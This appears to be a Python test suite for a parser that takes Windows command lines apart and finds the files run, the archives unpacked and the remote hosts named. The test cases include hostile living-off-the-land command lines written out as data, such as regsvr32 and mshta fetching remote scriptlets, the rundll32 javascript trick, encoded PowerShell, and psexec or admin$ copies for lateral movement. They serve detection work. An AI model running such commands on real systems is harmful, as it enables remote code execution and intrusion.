"""What command lines make programs run, and the hosts they name; with argv[0] and without it."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from graph_model.commandline import archives_unpacked, arguments, files_run, servers_named, tokens

RUNDLL = r"C:\Windows\System32\rundll32.exe"


@pytest.mark.parametrize(
    ("image", "command_line", "files"),
    [
        # rundll32 with argv[0] and without it
        ("rundll32.exe", rf'{RUNDLL} "C:\Windows\027cc.dll",#1 55', [r"C:\Windows\027cc.dll"]),
        ("rundll32.exe", rf'"{RUNDLL}" "C:\Windows\027cc.dll",#1 55', [r"C:\Windows\027cc.dll"]),
        ("rundll32.exe", r'"C:\Windows\027cc.dll",#1 55', [r"C:\Windows\027cc.dll"]),
        ("rundll32.exe", "027cc.dll #1", ["027cc.dll"]),
        ("RUNDLL32.EXE", r"rundll32 C:\x.dll,Start", [r"C:\x.dll"]),
        ("rundll32.exe", r"rundll32.exe C:\a\x.dat,Start", [r"C:\a\x.dat"]),
        ("rundll32.exe", r"rundll32.exe C:\a\x,Start", [r"C:\a\x.dll"]),
        ("rundll32.exe", r"rundll32.exe \\srv\s\x.dll,Start", [r"\\srv\s\x.dll"]),
        ("rundll32.exe", r"rundll32.exe C:\x.txt:evil.dll,Start", [r"C:\x.txt:evil.dll"]),
        ("rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL", ["shell32.dll"]),
        (
            "rundll32.exe",
            r'rundll32.exe shell32.dll,Control_RunDLL "C:\a b\x.cpl",,1',
            ["shell32.dll", r"C:\a b\x.cpl"],
        ),
        ("rundll32.exe", r'rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";x()', []),
        ("rundll32.exe", r'"rundll32.exe" "javascript:\..\mshtml,RunHTMLApplication"', []),
        ("rundll32.exe", "rundll32.exe -localserver {1234}", []),
        ("rundll32.exe", "rundll32.exe", []),
        # regsvr32
        ("regsvr32.exe", r"regsvr32 /s C:\a\x.ocx", [r"C:\a\x.ocx"]),
        ("regsvr32.exe", r"regsvr32.exe /s /n /u /i:http://192.0.2.1/x.sct scrobj.dll", ["scrobj.dll"]),
        ("regsvr32.exe", r'/s "C:\a b\x.dll"', [r"C:\a b\x.dll"]),
        # script hosts: the first word that is no option; what follows are the script's arguments
        ("wscript.exe", r'"C:\Windows\System32\WScript.exe" "C:\a b\x.js" y.js', [r"C:\a b\x.js"]),
        ("wscript.exe", r"//B //E:jscript C:\x.txt", [r"C:\x.txt"]),
        ("cscript.exe", r"cscript //nologo C:\x.vbs", [r"C:\x.vbs"]),
        ("mshta.exe", r'mshta.exe "C:\a b\x.hta"', [r"C:\a b\x.hta"]),
        ("mshta.exe", "mshta.exe http://192.0.2.1/x.hta", []),
        ("mshta.exe", "mshta.exe javascript:a=GetObject('script:x.sct')", []),
        ("powershell.exe", r'powershell -ExecutionPolicy Bypass -File "C:\a b\x.ps1" -Name y', [r"C:\a b\x.ps1"]),
        ("powershell.exe", r"""powershell.exe -c "& 'C:\a b\x.ps1'" """, [r"C:\a b\x.ps1"]),
        ("powershell.exe", r'powershell.exe "& C:\a\x.ps1"', [r"C:\a\x.ps1"]),
        ("powershell.exe", "powershell -enc SQBFAFgA", []),
        ("cmd.exe", r'cmd.exe /c "C:\a b\x.bat"', [r"C:\a b\x.bat"]),
        ("cmd.exe", "/c dir", []),
        ("python.exe", r"python C:\a\x.py", [r"C:\a\x.py"]),
        # documents
        ("WINWORD.EXE", r'"C:\Program Files\Microsoft Office\WINWORD.EXE" /n "C:\a b\c d.docm"', [r"C:\a b\c d.docm"]),
        ("WINWORD.EXE", r'C:\Program Files\Microsoft Office\WINWORD.EXE /n "C:\a b\c d.docm"', [r"C:\a b\c d.docm"]),
        ("EXCEL.EXE", r'/dde "C:\a b\表.xlsm"', [r"C:\a b\表.xlsm"]),
        ("hwp.exe", r"C:\x.hwp", [r"C:\x.hwp"]),
        ("msiexec.exe", r'msiexec /q /i "C:\a b\h.msi"', [r"C:\a b\h.msi"]),
        ("javaw.exe", r'"C:\jre\javaw.exe" -jar "C:\a b\h.jar" x', [r"C:\a b\h.jar"]),
        # others
        ("notepad.exe", r"notepad C:\x.js", []),
        (None, r"rundll32 C:\x.dll,Start", []),
        ("rundll32.exe", None, []),
        ("rundll32.exe", "", []),
    ],
)
def test_a_host_program_runs_what_its_command_line_names(
    image: str | None, command_line: str | None, files: list[str]
) -> None:
    assert files_run(image, command_line) == files


@pytest.mark.parametrize(
    ("image", "command_line", "archives"),
    [
        ("7z.exe", r'"C:\Program Files\7-Zip\7z.exe" x -y "C:\a b\x.zip" -oC:\out', [r"C:\a b\x.zip"]),
        ("7zG.exe", r"x -oC:\out C:\x.7z", [r"C:\x.7z"]),
        ("7z.exe", r"7z a C:\out.7z C:\secret", []),
        ("WinRAR.exe", r'"C:\Program Files\WinRAR\WinRAR.exe" x -ibck C:\x.rar C:\out', [r"C:\x.rar"]),
        ("unrar.exe", r"unrar e x.rar", ["x.rar"]),
        ("tar.exe", r"tar -xf C:\x.tar -C C:\out", [r"C:\x.tar"]),
        ("tar.exe", r"tar xzf x.tgz", ["x.tgz"]),
        ("tar.exe", r"tar -x -v -f x.tar", ["x.tar"]),
        ("tar.exe", r"tar --extract --file=x.tar", ["x.tar"]),
        ("tar.exe", r"tar -cf x.tar xf", []),
        ("expand.exe", r"expand C:\x.cab -F:* C:\out", [r"C:\x.cab"]),
        ("expand.exe", r"expand.exe", []),
        (
            "powershell.exe",
            r"""powershell -c "Expand-Archive -Path 'C:\a b\x.zip' -DestinationPath C:\o" """,
            [r"C:\a b\x.zip"],
        ),
        ("powershell.exe", r"powershell Expand-Archive -Force -LiteralPath C:\x.zip; dir", [r"C:\x.zip"]),
        ("powershell.exe", r"powershell Expand-Archive C:\x.zip C:\out", [r"C:\x.zip"]),
        ("powershell.exe", r"powershell Compress-Archive C:\x C:\x.zip", []),
        ("notepad.exe", r"notepad x C:\x.zip", []),
        (None, "7z x a.zip", []),
    ],
)
def test_an_archiver_unpacks_what_its_command_line_names(
    image: str | None, command_line: str, archives: list[str]
) -> None:
    assert archives_unpacked(image, command_line) == archives


def test_words_lose_their_quotes_and_keep_their_blanks() -> None:
    assert tokens(r'a "b c" d"e f"g ""') == ["a", "b c", "de fg"]
    assert tokens('a "b c') == ["a", "b c"]
    assert tokens("") == []


@pytest.mark.parametrize(
    ("image", "command_line", "rest"),
    [
        ("psexec.exe", r"psexec \\h cmd", r"\\h cmd"),
        ("psexec.exe", r'"C:\a b\PsExec.exe"  \\h cmd', r"\\h cmd"),
        ("dllhost.dat", r"\\172.31.48.79 -s cmd", r"\\172.31.48.79 -s cmd"),
        ("a.exe", "a.exe", ""),
        ("a.exe", "", ""),
    ],
)
def test_arguments_are_what_follows_argv0(image: str, command_line: str, rest: str) -> None:
    assert arguments(image, command_line) == rest


# --- hosts ---------------------------------------------------------------------------------------

STORY = r'\\172.31.48.79 -accepteula -s -d C:\Windows\System32\rundll32.exe "C:\Windows\027cc.dll",#1 55'


@pytest.mark.parametrize(
    ("command_line", "servers"),
    [
        (STORY, ["172.31.48.79"]),
        (r"psexec.exe \\MWC02 -u a -p b cmd", ["MWC02"]),
        (r"cmd /c copy x.dll \\172.31.48.79\admin$\x.dll", ["172.31.48.79"]),
        (r'copy "\\srv-1\c$\a b" "\\srv2.example.com\d"', ["srv-1", "srv2.example.com"]),
        (r"net use Z: \\srv\share /user:a b", ["srv"]),
        (r"copy \\srv\a \\srv\b", ["srv"]),
        (r"sc \\10.0.0.5 create x", ["10.0.0.5"]),
        (r"regsvr32 /i:\\srv\s\x.sct scrobj.dll", ["srv"]),
        (r"x \\fe80::1\s", ["fe80::1"]),
        (r"x & copy a \\h1\c$&\\h2\c$\b", ["h1", "h2"]),
        (r"x \\.\pipe\y", []),
        (r"x \\?\C:\y", []),
        (r"copy C:\\Windows\\x D:\\y", []),
        (r'"C:\\Windows\\x"', []),
        (r"C:\\Windows", []),
        (r"a\\b\c", []),
        ("http://192.0.2.1/x", []),
        (r"\\*", []),
        ("", []),
        (None, []),
    ],
)
def test_the_hosts_of_a_command_line_are_those_behind_two_backslashes(
    command_line: str | None, servers: list[str]
) -> None:
    assert servers_named(command_line) == servers


IMAGES = st.sampled_from(["rundll32.exe", "regsvr32.exe", "wscript.exe", "mshta.exe", "powershell.exe", "winword.exe"])
LINES = st.text(max_size=60) | st.lists(
    st.sampled_from([" ", '"', "'", ",", "\\\\", "x.dll", "Control_RunDLL", "x.ps1", "& ", "C:\\", "/i:", "\x00"])
).map("".join)


@given(IMAGES, LINES)
@settings(max_examples=500, deadline=None)
def test_no_command_line_raises_or_names_an_empty_file_or_host(image: str, command_line: str) -> None:
    assert all(files_run(image, command_line)) or not files_run(image, command_line)
    assert all(servers_named(command_line))


@given(
    st.sampled_from(["7z.exe", "tar.exe", "expand.exe", "powershell.exe"]), LINES | st.text("x f-=;Ep'\"", max_size=40)
)
def test_no_command_line_raises_or_names_an_empty_archive(image: str, command_line: str) -> None:
    assert all(archives_unpacked(image, command_line))
